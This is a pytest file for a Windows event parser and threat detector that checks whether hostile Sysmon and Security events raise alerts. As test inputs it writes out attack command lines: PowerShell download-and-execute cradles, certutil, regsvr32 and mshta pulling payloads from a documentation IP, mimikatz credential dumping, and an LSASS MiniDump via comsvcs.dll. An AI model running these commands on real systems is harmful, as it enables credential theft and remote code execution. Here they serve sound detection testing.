"""Windows events: Winlogbeat JSON and .evtx records to ECS, the id table and the heuristics."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import orjson
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from classifiers.logs.taxonomy import LABELS
from classifiers.parsing import ParseFailure, ParseOptions, parse
from classifiers.parsing.evtx import iter_evtx_documents, parse_record, winlogbeat_document
from classifiers.parsing.verdict import CRITICAL, HIGH, TACTICS
from classifiers.parsing.winevents import TABLE
from classifiers.shared_data import shared_data_dir

SYSMON = "Microsoft-Windows-Sysmon/Operational"


def _winlog(channel: str, code: int, data: dict[str, str], **extra: Any) -> dict[str, Any]:
    """A Winlogbeat 8 document as it arrives from Kafka, parsed."""
    document = {
        "@timestamp": "2026-12-04T10:11:12.123Z",
        "message": f"event {code}",
        "event": {"code": str(code), "kind": "event", "provider": "p"},
        "host": {"name": "WS1"},
        "winlog": {"channel": channel, "event_id": str(code), "computer_name": "WS1",
                   "event_data": data},
        **extra,
    }  # fmt: skip
    result = parse(orjson.dumps(document), ParseOptions())
    assert not isinstance(result, ParseFailure), result
    return result


def _verdict(event: dict[str, Any]) -> tuple[str | None, bool, int | None]:
    parser = event["logwarden"].get("parser") or {}
    return parser.get("label"), parser.get("alert", False), event["event"].get("severity")


def _tactic(event: dict[str, Any]) -> str | None:
    return event.get("threat", {}).get("tactic", {}).get("name", [None])[0]


def test_failed_logon_is_a_signal_with_ecs_fields() -> None:
    event = _winlog("Security", 4625, {
        "TargetUserName": "administrator", "TargetDomainName": "CORP", "LogonType": "3",
        "IpAddress": "203.0.113.9", "IpPort": "50211", "WorkstationName": "KALI",
        "Status": "0xc000006d",
    })  # fmt: skip
    assert event["event"]["action"] == "logon-failed"
    assert event["event"]["outcome"] == "failure"
    assert event["event"]["category"] == ["authentication"]
    assert event["event"]["dataset"] == "system.security"
    assert event["user"] == {"name": "administrator", "domain": "CORP"}
    assert event["source"] == {
        "address": "203.0.113.9", "ip": "203.0.113.9", "port": 50211, "domain": "KALI",
    }  # fmt: skip
    assert event["winlog"]["logon"]["type"] == "Network"
    assert _verdict(event) == ("auth_failure", False, 21)  # brute force is a correlation rule
    assert _tactic(event) == "Credential Access"
    assert event["related"] == {"ip": ["203.0.113.9"], "user": ["administrator"]}


def test_successful_logon_is_pinned_benign() -> None:
    event = _winlog("Security", 4624, {"TargetUserName": "alice", "LogonType": "2"})
    assert event["event"]["action"] == "logged-in"
    assert _verdict(event) == ("benign", False, 21)


@pytest.mark.parametrize(
    ("code", "data", "label", "tactic"),
    [
        (4720, {"TargetUserName": "backdoor$", "SubjectUserName": "eve"}, "account_change",
         "Defense Evasion"),
        (4732, {"TargetUserName": "Administrators", "MemberSid": "S-1-5-21-1-2-3-1104",
                "SubjectUserName": "eve"}, "account_change", "Persistence"),
        (4728, {"TargetUserName": "Domain Admins", "MemberName": "CN=eve,DC=corp",
                "SubjectUserName": "eve"}, "account_change", "Persistence"),
        (1102, {"SubjectUserName": "eve"}, "malware", "Defense Evasion"),
        (4781, {"OldTargetUserName": "SRV01$", "NewTargetUserName": "DC01"},
         "privilege_escalation", "Privilege Escalation"),
        (7045, {"ServiceName": "x", "ImagePath": "%COMSPEC% /Q /c echo whoami > \\\\.\\pipe\\x"},
         "malware", "Persistence"),
        (4698, {"TaskName": "\\upd", "TaskContent": "<Exec><Command>powershell.exe</Command>"
                "<Arguments>-nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA</Arguments>"},
         "malware", "Execution"),
    ],
)  # fmt: skip
def test_alert_worthy_security_events(
    code: int, data: dict[str, str], label: str, tactic: str
) -> None:
    channel = "System" if code == 7045 else "Security"
    event = _winlog(channel, code, data)
    assert _verdict(event)[:2] == (label, True)
    assert event["event"]["severity"] >= HIGH
    assert _tactic(event) == tactic


def test_ordinary_account_and_group_changes_are_signals() -> None:
    created = _winlog("Security", 4720, {"TargetUserName": "jsmith", "SubjectUserName": "hr"})
    added = _winlog("Security", 4732, {
        "TargetUserName": "Finance", "MemberSid": "S-1-5-21-1-2-3-1200", "SubjectUserName": "hr",
    })  # fmt: skip
    assert _verdict(created) == ("account_change", False, 21)
    assert created["event"]["action"] == "added-user-account"
    assert created["user"] == {"name": "hr", "target": {"name": "jsmith"}}
    assert _verdict(added) == ("account_change", False, 21)
    assert added["event"]["action"] == "added-member-to-group"
    assert added["group"] == {"name": "Finance"}
    assert added["user"] == {"name": "hr", "target": {"name": "S-1-5-21-1-2-3-1200"}}


@pytest.mark.parametrize(
    "command",
    [
        "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA",
        "powershell -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://x/a')\"",
        "certutil.exe -urlcache -split -f http://203.0.113.5/a.exe C:\\Users\\Public\\a.exe",
        "regsvr32 /s /n /u /i:http://203.0.113.5/file.sct scrobj.dll",
        'rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";document.write()',
        "mshta.exe http://203.0.113.5/payload.hta",
        'mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit',
        "rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 624 C:\\temp\\l.dmp full",
    ],
)
def test_sysmon_process_creation_heuristics(command: str) -> None:
    event = _winlog(SYSMON, 1, {
        "Image": "C:\\Windows\\System32\\cmd.exe", "CommandLine": command,
        "ParentImage": "C:\\Windows\\explorer.exe", "User": "CORP\\bob", "ProcessId": "4242",
    })  # fmt: skip
    label, alert, severity = _verdict(event)
    assert alert and severity is not None and severity >= HIGH, event["logwarden"]
    assert label in ("malware", "privilege_escalation")
    assert event["process"]["command_line"] == command
    assert event["process"]["parent"]["name"] == "explorer.exe"
    assert event["user"] == {"name": "bob", "domain": "CORP"}


@pytest.mark.parametrize(
    ("image", "command", "parent"),
    [
        ("C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
         "chrome.exe --type=renderer --lang=en-US", "C:\\Program Files\\Google\\Chrome\\"
         "Application\\chrome.exe"),
        ("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
         "powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\Windows\\CCM\\inv.ps1",
         "C:\\Windows\\CCM\\CcmExec.exe"),
        ("C:\\Windows\\System32\\svchost.exe", "svchost.exe -k netsvcs -p -s Schedule",
         "C:\\Windows\\System32\\services.exe"),
        ("C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
         '"WINWORD.EXE" /n "C:\\Users\\bob\\Documents\\Q3 report.docx"',
         "C:\\Windows\\explorer.exe"),
    ],
)  # fmt: skip
def test_ordinary_process_creation_does_not_alert(image: str, command: str, parent: str) -> None:
    event = _winlog(SYSMON, 1, {"Image": image, "CommandLine": command, "ParentImage": parent})
    assert _verdict(event) == ("benign", False, 21)


def test_office_spawning_a_shell_alerts() -> None:
    event = _winlog(SYSMON, 1, {
        "Image": "C:\\Windows\\System32\\cmd.exe", "CommandLine": "cmd.exe /c whoami",
        "ParentImage": "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
    })  # fmt: skip
    assert _verdict(event)[:2] == ("malware", True)
    assert event["threat"]["technique"]["id"] == ["T1204.002"]


def test_lsass_access_depends_on_who_reads_it() -> None:
    data = {"TargetImage": "C:\\Windows\\system32\\lsass.exe", "GrantedAccess": "0x1010"}
    tool = _winlog(SYSMON, 10, {**data, "SourceImage": "C:\\Users\\bob\\Desktop\\x.exe"})
    defender = _winlog(SYSMON, 10, {**data, "SourceImage": "C:\\ProgramData\\Microsoft\\"
                                    "Windows Defender\\Platform\\4.18\\MsMpEng.exe"})  # fmt: skip
    assert _verdict(tool) == ("privilege_escalation", True, CRITICAL)
    assert tool["threat"]["technique"] == {"id": ["T1003.001"], "name": ["LSASS Memory"]}
    assert _verdict(defender) == ("benign", False, 21)


def test_run_keys_alert_only_for_hostile_values() -> None:
    key = "HKU\\S-1-5-21-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\"
    onedrive = _winlog(SYSMON, 13, {
        "TargetObject": key + "OneDrive", "EventType": "SetValue",
        "Details": "C:\\Users\\bob\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe /background",
    })  # fmt: skip
    hostile = _winlog(SYSMON, 13, {
        "TargetObject": key + "Updater", "EventType": "SetValue",
        "Details": "powershell.exe -w hidden -c iex(gc C:\\Users\\Public\\u.txt)",
    })  # fmt: skip
    assert _verdict(onedrive)[1] is False
    assert onedrive["registry"]["path"] == key + "OneDrive"
    assert _verdict(hostile)[:2] == ("malware", True)
    assert _tactic(hostile) in ("Persistence", "Execution")


def test_remote_thread_named_pipe_script_block_and_defender() -> None:
    thread = _winlog(SYSMON, 8, {"SourceImage": "C:\\x.exe", "TargetImage": "C:\\y.exe"})
    pipe = _winlog(SYSMON, 17, {"PipeName": "\\mojo.4120.6952.1234567890", "Image": "C:\\x.exe"})
    cobalt = _winlog(SYSMON, 17, {"PipeName": "\\postex_1a2b", "Image": "C:\\x.exe"})
    block = _winlog("Microsoft-Windows-PowerShell/Operational", 4104, {
        "ScriptBlockText": "Invoke-Mimikatz -Command '\"sekurlsa::logonpasswords\"'",
    })  # fmt: skip
    detected = _winlog("Microsoft-Windows-Windows Defender/Operational", 1116, {
        "Threat Name": "HackTool:Win32/Mimikatz", "Severity Name": "High",
    })  # fmt: skip
    assert _verdict(thread)[:2] == ("malware", True)
    assert _verdict(pipe)[1] is False
    assert _verdict(cobalt)[1] is True
    assert _verdict(block)[:2] == ("privilege_escalation", True)
    assert _verdict(detected) == ("malware", True, HIGH)
    assert detected["logwarden"]["parser"]["reason"] == "Defender: HackTool:Win32/Mimikatz"
    assert detected["event"]["action"] == "malware-detected"


def test_dns_query_and_network_connection_fields() -> None:
    dns = _winlog(SYSMON, 22, {"QueryName": "www.example.com", "Image": "C:\\chrome.exe"})
    net = _winlog(SYSMON, 3, {
        "Image": "C:\\Windows\\System32\\mshta.exe", "Protocol": "tcp", "SourceIp": "10.0.0.5",
        "SourcePort": "50123", "DestinationIp": "198.51.100.7", "DestinationPort": "443",
        "DestinationHostname": "cdn.example.net",
    })  # fmt: skip
    assert dns["dns"] == {"question": {"name": "www.example.com"}}
    assert _verdict(dns) == ("benign", False, 21)
    assert net["destination"]["ip"] == "198.51.100.7" and net["destination"]["port"] == 443
    assert net["destination"]["domain"] == "cdn.example.net"
    assert net["network"] == {"transport": "tcp"}
    assert _verdict(net)[:2] == ("malware", True)  # a LOLBin calling out to the internet


def test_a_missing_message_is_written_from_the_event_data() -> None:
    document = {
        "@timestamp": "2026-12-04T10:11:12Z", "event": {"code": "4625"},
        "winlog": {"channel": "Security", "event_id": "4625", "provider_name": "Microsoft-"
                   "Windows-Security-Auditing", "event_data": {"TargetUserName": "bob"}},
    }  # fmt: skip
    event = parse(orjson.dumps(document), ParseOptions())
    assert not isinstance(event, ParseFailure)
    assert event["message"] == "Microsoft-Windows-Security-Auditing event 4625: TargetUserName=bob"


def test_unknown_ids_get_no_verdict_and_sender_verdicts_are_dropped() -> None:
    event = _winlog("Security", 5379, {"TargetName": "x"},
                    logwarden={"parser": {"label": "benign", "alert": False}})  # fmt: skip
    assert "parser" not in event["logwarden"]
    assert event["event"]["code"] == "5379"


def test_the_table_covers_the_issue_ids_with_valid_meanings() -> None:
    wanted = {
        "security": [4624, 4625, 4648, 4771, 4776, 4720, 4722, 4723, 4724, 4725, 4726, 4728,
                     4732, 4756, 4738, 4672, 4673, 4703, 4697, 4698, 4702, 1102],
        "system": [7045, 104],
        "sysmon": [1, 3, 7, 8, 10, 11, 12, 13, 17, 18, 22],
        "powershell": [4103, 4104],
        "defender": [1116, 1117],
    }  # fmt: skip
    missing = [(f, c) for f, codes in wanted.items() for c in codes if (f, c) not in TABLE]
    assert missing == []
    for key, row in TABLE.items():
        assert row.label in LABELS, key
        assert row.tactic is None or row.tactic in TACTICS, key
        assert (row.tactic is None) == (row.technique is None), key
        assert not row.alert or row.severity >= 47, key
    assert not TABLE[("security", 4625)].alert  # one failed logon is not an alert
    assert TABLE[("security", 1102)].alert and TABLE[("defender", 1116)].alert


def test_evtx_record_reshaped_like_winlogbeat() -> None:
    record = {"Event": {
        "System": {
            "Provider": {"#attributes": {"Name": "Microsoft-Windows-Eventlog"}},
            "EventID": {"#attributes": {"Qualifiers": 0}, "#text": 1102}, "Level": 4,
            "EventRecordID": 7, "Channel": "Security", "Computer": "DC01",
            "TimeCreated": {"#attributes": {"SystemTime": "2026-12-04T10:11:12.5Z"}},
        },
        "UserData": {"LogFileCleared": {"SubjectUserName": "eve", "SubjectDomainName": "CORP"}},
    }}  # fmt: skip
    document = winlogbeat_document(record)
    assert document["winlog"]["event_id"] == "1102"
    assert document["winlog"]["user_data"] == {
        "SubjectUserName": "eve",
        "SubjectDomainName": "CORP",
    }
    event = parse(orjson.dumps(document), ParseOptions())
    assert not isinstance(event, ParseFailure)
    assert event["@timestamp"] == "2026-12-04T10:11:12.500Z"
    assert event["event"]["action"] == "cleared-audit-log"
    assert event["user"] == {"name": "eve", "domain": "CORP"}
    assert _verdict(event) == ("malware", True, HIGH)


def test_unreadable_evtx_file_is_a_clear_error(tmp_path: Path) -> None:
    broken = tmp_path / "broken.evtx"
    broken.write_bytes(b"ElfFile\x00" + b"\x00" * 64)
    with pytest.raises(ValueError, match=r"not a readable \.evtx file"):
        list(iter_evtx_documents(broken))


def _shared_evtx(name: str) -> Path:
    base = shared_data_dir()
    found = sorted((base / "evtx").rglob(name)) if base is not None else []
    if not found:
        pytest.skip(f"shared EVTX recordings absent ({name}): set LOGWARDEN_SHARED_DATA")
    return found[0]


def test_real_evtx_file_reads_every_record_and_alerts() -> None:
    path = _shared_evtx("sysmon_10_1_memdump_comsvcs_minidump.evtx")
    events = list(iter_evtx_documents(path))
    assert events and not any(isinstance(e, ParseFailure) for e in events)
    assert all(e["event"]["dataset"] == "windows.sysmon_operational" for e in events)
    alerts = [e for e in events if e["logwarden"].get("parser", {}).get("alert")]
    assert alerts, "the comsvcs MiniDump of LSASS must raise an alert"
    assert "Credential Access" in {_tactic(e) for e in alerts}


@pytest.mark.parametrize(
    ("channel", "code", "data", "tactic"),
    [
        ("Security", 5145, {"ShareName": "\\\\*\\IPC$", "RelativeTargetName": "svcctl",
                            "IpAddress": "10.0.0.23", "SubjectUserName": "adm"},
         "Lateral Movement"),
        ("Application", 15457, {"param1": "xp_cmdshell", "param2": "0", "param3": "1"},
         "Execution"),
        (SYSMON, 1, {"Image": "C:\\Windows\\System32\\mshta.exe", "CommandLine": "mshta.exe "
                     "-Embedding", "ParentImage": "C:\\Windows\\System32\\svchost.exe"},
         "Lateral Movement"),
        (SYSMON, 6, {"ImageLoaded": "C:\\Users\\bob\\rw.sys", "Signed": "false",
                     "SignatureStatus": "Unavailable"}, "Defense Evasion"),
        (SYSMON, 13, {"TargetObject": "HKLM\\SAM\\SAM\\Domains\\Account\\Users\\Names\\"
                      "support$\\(Default)", "Details": "Binary Data"}, "Persistence"),
    ],
)  # fmt: skip
def test_lateral_movement_and_persistence_rules(
    channel: str, code: int, data: dict[str, str], tactic: str
) -> None:
    event = _winlog(channel, code, data)
    assert _verdict(event)[1] is True, event["logwarden"]
    assert _tactic(event) == tactic


def test_local_share_and_signed_driver_stay_signals() -> None:
    local = _winlog("Security", 5145, {
        "ShareName": "\\\\*\\IPC$", "RelativeTargetName": "svcctl", "IpAddress": "127.0.0.1",
    })  # fmt: skip
    driver = _winlog(SYSMON, 6, {
        "ImageLoaded": "C:\\Windows\\System32\\drivers\\e1d68x64.sys", "Signed": "true",
        "SignatureStatus": "Valid",
    })  # fmt: skip
    assert _verdict(local)[1] is False and _verdict(driver)[1] is False


_FIELDS = (
    "Image", "CommandLine", "ParentImage", "User", "TargetUserName", "SubjectUserName",
    "LogonType", "IpAddress", "IpPort", "TargetObject", "Details", "EventType", "PipeName",
    "SourceImage", "TargetImage", "GrantedAccess", "CallTrace", "ImageLoaded", "Signed",
    "TargetFilename", "QueryName", "DestinationIp", "DestinationPort", "ImagePath",
    "TaskContent", "ScriptBlockText", "MemberSid", "ShareName", "RelativeTargetName", "url",
    "OriginalFileName", "ServiceName", "TicketEncryptionType", "PreAuthType", "Properties",
    "ObjectType", "ObjectName", "AuditPolicyChanges", "AttributeLDAPDisplayName", "param1",
    "param2", "param3", "New Value", "AccessList", "Initiated",
)  # fmt: skip
_VALUES = st.one_of(
    st.text(max_size=40),
    st.integers(-(2**63), 2**63 - 1),
    st.none(),
    st.booleans(),
    st.lists(st.text(), max_size=2),
)


@settings(max_examples=300, deadline=None)
@given(
    key=st.sampled_from(sorted(TABLE)),
    data=st.dictionaries(st.sampled_from(_FIELDS), _VALUES, max_size=8),
)
def test_any_evtx_record_data_parses(key: tuple[str, int], data: dict[str, Any]) -> None:
    channels = {
        "security": "Security", "system": "System", "application": "Application",
        "sysmon": SYSMON, "powershell": "Microsoft-Windows-PowerShell/Operational",
        "defender": "Microsoft-Windows-Windows Defender/Operational",
        "bits": "Microsoft-Windows-Bits-Client/Operational",
        "wmi": "Microsoft-Windows-WMI-Activity/Operational",
    }  # fmt: skip
    event = parse_record(orjson.dumps({"Event": {
        "System": {"Channel": channels[key[0]], "EventID": key[1], "Computer": "WS1",
                   "Provider": {"#attributes": {"Name": "p"}}},
        "EventData": data,
    }}), ParseOptions())  # fmt: skip
    assert not isinstance(event, ParseFailure), event
    assert event["event"]["code"] == str(key[1])
    assert isinstance(event["logwarden"]["parser"]["alert"], bool)
